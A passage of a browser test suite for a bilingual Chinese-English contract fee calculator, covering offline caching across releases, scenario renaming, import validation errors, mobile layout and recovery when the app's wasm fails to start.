        assertEq(JSON.stringify(keys), JSON.stringify([first]), 'the copies after a release served wrongly');
        const page0 = await page.evaluate(async () => (await (await caches.open((await caches.keys())[0])).match('./'))?.text());
        assert(page0?.includes('data-testid="contract-total"'), 'the copy before keeps its page');
      } finally {
        server.override('/sw.js', null);
        server.override('/', null);
      }
      await reloadApp(page);
      await expectText(page, TOTAL, STARTER_TOTAL);
    },
  },
  {
    name: 'offline: a new release replaces the old copy, keeping the one before for pages still loading it, and leaves other deployments alone',
    async run({ page, server, url }) {
      await openApp(page, url);
      const [first] = await offlineCopyReady(page);
      const release = releaseOf;
      const released = await (await fetch(new URL('sw.js', url))).text();
      assert(released.includes(JSON.stringify(release(first))), `dist/sw.js names its release (${first}): ${released.match(/^const VERSION.*$/m)}`);
      // Another deployment of the app on the same host, at another path, has its own copy.
      const elsewhere = 'contract-calc http://127.0.0.1/elsewhere/ contract-calc-0000000000000000';
      await page.evaluate((name) => caches.open(name), elsewhere);
      const ours = (keys) => keys.filter((k) => k !== elsewhere);
      const publish = (v) => publishRelease(page, server, url, v, ours);
      try {
        const second = 'contract-calc-00000000000second';
        let keys = await publish(second);
        assertEq(JSON.stringify(ours(keys).map(release)), JSON.stringify([release(first), second]), 'the copies after a new release');
        const third = 'contract-calc-000000000000third';
        keys = await publish(third);
        assertEq(JSON.stringify(ours(keys).map(release)), JSON.stringify([second, third]), 'the copies after one more release');
        assert(keys.includes(elsewhere), `the other deployment's copy is kept: ${JSON.stringify(keys)}`);
        await reloadApp(page);
        await expectText(page, TOTAL, STARTER_TOTAL);
      } finally {
        server.override('/sw.js', null);
      }
    },
  },
);

// ---------------------------------------------------------------------------------------------
// Runner

function withTimeout(promise, ms, what) {
  let timer;
  const timeout = new Promise((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: timed out after ${ms} ms`)), ms);
  });
  return Promise.race([promise, timeout]).finally(() => clearTimeout(timer));
}

tests.push({
  name: 'a rename takes Enter and Escape and never leaves a scenario nameless; times are the user\'s own',
  async run({ newPage, url }) {
    // Shanghai time, whatever the machine's: the list shows the hour the user saw.
    const page = await newPage({ timezoneId: 'Asia/Shanghai' });
    await openApp(page, url);
    await saveAs(page, '甲方案');
    const stored = savedEntries(await storage(page)).find((e) => e.name === '甲方案');
    const local = await page.evaluate((iso) => {
      const d = new Date(iso);
      const p = (n) => String(n).padStart(2, '0');
      return `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())} ${p(d.getHours())}:${p(d.getMinutes())}`;
    }, stored.updated);
    assert(local !== stored.updated.replace('T', ' ').slice(0, 16), 'Shanghai time differs from UTC');
    await expectText(page, '[data-testid=saved-list] li .muted', local);
    const row = () => page.locator('[data-testid=saved-list] li').first();
    const input = () => row().locator('input[type=text]');
    // Enter is OK, but not the Enter or Escape that picks or dismisses an input method's
    // candidate (composing, or Safari's key code 229 after the composition ends).
    await row().getByRole('button', { name: '重命名' }).click();
    await input().fill('甲方案（修订）');
    for (const init of [{ key: 'Enter', isComposing: true }, { key: 'Enter', keyCode: 229 }, { key: 'Escape', isComposing: true }]) {
      await input().evaluate((e, init) => e.dispatchEvent(new KeyboardEvent('keydown', { ...init, bubbles: true, cancelable: true })), init);
    }
    await page.waitForTimeout(100);
    assertEq(await input().count(), 1, 'the rename box after an input method\'s keys');
    await input().press('Enter');
    await savedRow(page, '甲方案（修订）').waitFor();
    await expectText(page, NAME, '甲方案（修订）');
    // Escape leaves the name as it was, and the focus on 重命名.
    await row().getByRole('button', { name: '重命名' }).click();
    await input().fill('不要这个名字');
    await input().press('Escape');
    await savedRow(page, '甲方案（修订）').locator('.saved-name').waitFor();
    assertEq(await input().count(), 0, 'the rename box after Escape');
    assertEq(await page.evaluate(() => document.activeElement?.textContent), '重命名', 'the focus after Escape');
    // An emptied name changes nothing.
    await row().getByRole('button', { name: '重命名' }).click();
    await input().fill('   ');
    await row().getByRole('button', { name: '确定' }).click();
    await savedRow(page, '甲方案（修订）').locator('.saved-name').waitFor();
    assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['甲方案（修订）']), 'the list after an empty rename');
    await expectText(page, NAME, '甲方案（修订）');
  },
});

tests.push({
  name: 'a file that is not a scenario says so, and a wrong field is named as the form names it',
  async run({ page, url }) {
    await openApp(page, url);
    const input = page.locator('#f-import');
    await input.setInputFiles({ name: 'package.json', mimeType: 'application/json', buffer: Buffer.from('{"name": "x", "version": "1.0.0"}') });
    const first = await expectBanner(page, '这不是本计算器导出的方案文件');
    await first.getByRole('button', { name: '关闭' }).click();
    await bannerWith(page, '这不是本计算器导出的方案文件').waitFor({ state: 'detached' });
    await input.setInputFiles({ name: 'photo.json', mimeType: 'application/json', buffer: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]) });
    await expectBanner(page, '文件“photo.json”未导入，当前内容未改变：这不是本计算器导出的方案文件');
    // The same file again is not stacked.
    await input.setInputFiles({ name: 'photo.json', mimeType: 'application/json', buffer: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]) });
    await page.waitForTimeout(300);
    assertEq(await bannerWith(page, '这不是本计算器导出的方案文件').count(), 1, 'notices that a file is not a scenario');
    const doc = JSON.parse(cli(['sample', 'starter']));
    doc.fees.components[0].amount = '-5.00';
    await input.setInputFiles({ name: 'neg.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(doc)) });
    const banner = await expectBanner(page, '文件“neg.json”未导入，当前内容未改变：费用构成第 1 行 · 每期金额');
    assert(!(await banner.textContent()).includes('fees.components'), `no document path: ${await banner.textContent()}`);
    await expectText(page, TOTAL, STARTER_TOTAL);
    // In English, the notice names the field in English too, not in the Chinese of the page it
    // was given on.
    await page.getByTestId('lang-toggle').click();
    await expectText(page, '[data-testid=lang-toggle]', '中文');
    const english = await expectBanner(page, '“neg.json” was not imported and nothing changed: Fee components, row 1, Per cycle');
    assert(!/[\u4e00-\u9fff]/.test((await english.textContent()).replace('中文', '')), `no Chinese in the English notice: ${await english.textContent()}`);
    // A cap misspelt in the file is kept, as every field this version does not know is, but
    // takes no effect: the import names it rather than drop the cap unsaid.
    const misspelt = JSON.parse(cli(['sample', 'starter']));
    misspelt.late_payment.cap_fractoin = '0.3';
    await input.setInputFiles({ name: 'cap.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(misspelt)) });
    await expectBanner(page, 'The file has fields this version does not know, kept as they are but used in no figure (if misspelt, enter them again in the form): late_payment.cap_fractoin');
    // A wrong field the form does not draw now (the page has no termination, no rate change) is
    // named as the form labels it when drawn, with its list and row, not by its JSON path.
    await page.getByTestId('lang-toggle').click();
    await expectText(page, '[data-testid=lang-toggle]', 'EN');
    const late = JSON.parse(cli(['sample', 'starter']));
    late.termination = { date: '2026-03-01', reason: 'client_breach', breach_penalty_fraction: '0.1', settlement_days: 15 };
    await input.setInputFiles({ name: 'term.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(late)) });
    const term = await expectBanner(page, '文件“term.json”未导入，当前内容未改变：服务终止日：');
    assert(!(await term.textContent()).includes('termination.date'), `a path in the notice: ${await term.textContent()}`);
    const changes = JSON.parse(cli(['sample', 'starter']));
    changes.late_payment.rate_changes = [
      { from: '2025-03-01', rate: { fraction: '0.0003', per_days: 1 } },
      { from: '2025-02-01', rate: { fraction: '0.0004', per_days: 1 } },
    ];
    await input.setInputFiles({ name: 'changes.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(changes)) });
    await expectBanner(page, '文件“changes.json”未导入，当前内容未改变：利率变更第 2 行 · 自：');
    // The name given is the label the field has once drawn.
    await page.locator('#f-term-on').check();
    const drawn = (await page.locator('label[for="f-termination-date"] .zh-en').textContent()).trim();
    assertEq(drawn, '服务终止日', 'the termination date\'s label, drawn');
  },
});

tests.push({
  name: 'the comparison marks the current scenario while a field is wrong, and a long name wraps on a phone',
  async run({ page, url }) {
    await page.setViewportSize({ width: 390, height: 844 });
    await openApp(page, url);
    await saveAs(page, '华东区售后外包运营合同版本ABCDEFGHIJKLMNOPQRSTUVWXYZ');
    await field(page, FEE0).fill('4.2万x');
    await page.getByTestId('open-compare').click();
    // The saved scenario open in the calculator is marked as the current one's saved version,
    // so that it is not picked beside the current one as another scenario.
    const openNow = page.locator('.picker label', { hasText: 'ABCDEFGH' }).getByTestId('compare-open-now');
    await openNow.waitFor();
    assertEq((await openNow.textContent()).trim(), '（当前打开的方案，上次保存的版本）', 'the open scenario in the picker');
    await page.locator('.picker label', { hasText: 'ABCDEFGH' }).locator('input').check();
    const table = page.getByTestId('comparison');
    await table.waitFor();
    const heads = (await table.locator('thead th').allTextContents()).map((t) => t.trim());
    assertEq(heads[1], '当前：华东区售后外包运营合同版本ABCDEFGHIJKLMNOPQRSTUVWXYZ（输入有误，此列为上次有效的输入）', 'the current column while a field is wrong');
    const wide = await page.evaluate(() => document.documentElement.scrollWidth);
    assert(wide <= 390, `the page scrolls sideways: ${wide} px`);
    // Back to the calculator: the list of problems names the field by its label, not its path.
    await page.getByTestId('open-calculator').click();
    await page.waitForFunction(() => document.querySelector('[data-testid=stale] li')?.textContent?.includes('每期金额'));
    const problems = await page.locator('[data-testid=stale] li').allTextContents();
    assert(!problems.some((t) => t.includes('fees.components')), `a path in the problems: ${JSON.stringify(problems)}`);
  },
});

tests.push({
  name: 'an app that stops while painting a link says so and offers the calculator without the link',
  async run({ page, url, errors, newPage }) {
    // The figures module and the app's wasm made to stop in `paint`, as a panic would: the
    // module is given up, and `start` is not called on the stopped app.
    await page.route(/contract-calc-(web|figures)-[0-9a-f]+\.js$/, async (route) => {
      const res = await route.fetch();
      const body = (await res.text()).replace('export function paint(link_document) {',
        'export function paint(link_document) { throw new WebAssembly.RuntimeError("unreachable"); }\nfunction paintAsBuilt(link_document) {');
      await route.fulfill({ response: res, body });
    });
    await page.goto(`${url}#${courtLink()}`);
    const note = page.getByTestId('cannot-start');
    await note.waitFor();
    assert((await note.textContent()).includes('计算器出错，未能打开'), await note.textContent());
    assertEq(await page.locator('.shell-loading').count(), 0, '"loading" after the app stopped');
    assertEq(await page.locator('[data-path]').count(), 0, 'a form built by the stopped app');
    await note.getByRole('link').click();
    await page.locator('#shell').waitFor({ state: 'detached' });
    await expectText(page, TOTAL, STARTER_TOTAL);
    assertEq(await page.evaluate(() => location.hash), '', 'the address after leaving the link');
    // The app's wasm that does not load at all: the same note, not "loading" for ever.
    const other = await newPage();
    await other.route(/contract-calc-web-[0-9a-f]+_bg\.wasm$/, (route) => route.fulfill({ status: 404, body: '' }));
    await other.goto(`${url}#${courtLink()}`);
    await other.getByTestId('cannot-start').waitFor();
    assertEq(await other.locator('.shell-loading').count(), 0, '"loading" after the app did not load');
    // Each stop was reported in the console, as it should be; nothing else went wrong.
    const stops = errors.filter((e) => e.includes('contract-calc stopped'));
    assert(stops.length >= 2, `console errors ${JSON.stringify(errors)}`);
    const expected = (e) => e.includes('contract-calc stopped') || (e.startsWith('[context 2]') && e.includes('_bg.wasm'));
    errors.splice(0, errors.length, ...errors.filter((e) => !expected(e)));
  },
});

async function main() {
  const only = process.argv[2];
  const selected = only ? tests.filter((t) => t.name.includes(only)) : tests;
  const started = Date.now();
  let passed = 0;
  let failed = 0;
  requireDist();
  const server = await serveDir();
  const browser = await launchBrowser();
  try {
    for (const t of selected) {
      const t0 = Date.now();
      const context = await browser.newContext();
      const page = await context.newPage();
      page.setDefaultTimeout(15_000);
      const errors = collectErrors(page);
      const extra = [];
      const newPage = async (options = {}) => {
        const ctx = await browser.newContext(options);
        extra.push(ctx);
        const p = await ctx.newPage();
        p.setDefaultTimeout(15_000);
        collectErrors(p, errors, `[context ${extra.length + 1}] `);
        return p;
      };
      try {
        await withTimeout(t.run({ page, context, browser, server, url: server.url, errors, newPage }), TEST_TIMEOUT_MS, t.name);
        if (errors.length) throw new Error(errors.join('\n    '));
        passed++;
        console.log(`ok   ${t.name} (${((Date.now() - t0) / 1000).toFixed(1)}s)`);
      } catch (err) {
        failed++;
        console.log(`FAIL ${t.name}\n    ${String(err?.message ?? err).split('\n').join('\n    ')}`);
      } finally {
        for (const c of extra) await c.close().catch(() => {});
        await context.close().catch(() => {});
      }
    }
  } finally {
    await browser.close().catch(() => {});
    await server.close();
  }
  console.log(`browser tests took ${((Date.now() - started) / 1000).toFixed(1)}s`);
  console.log(`${passed} passed, ${failed} failed`);
  if (failed > 0 || passed === 0) process.exitCode = 1;
}

main().catch((err) => {
  console.error(err?.stack ?? err);
  console.log('0 passed, 1 failed');
  process.exitCode = 1;
});
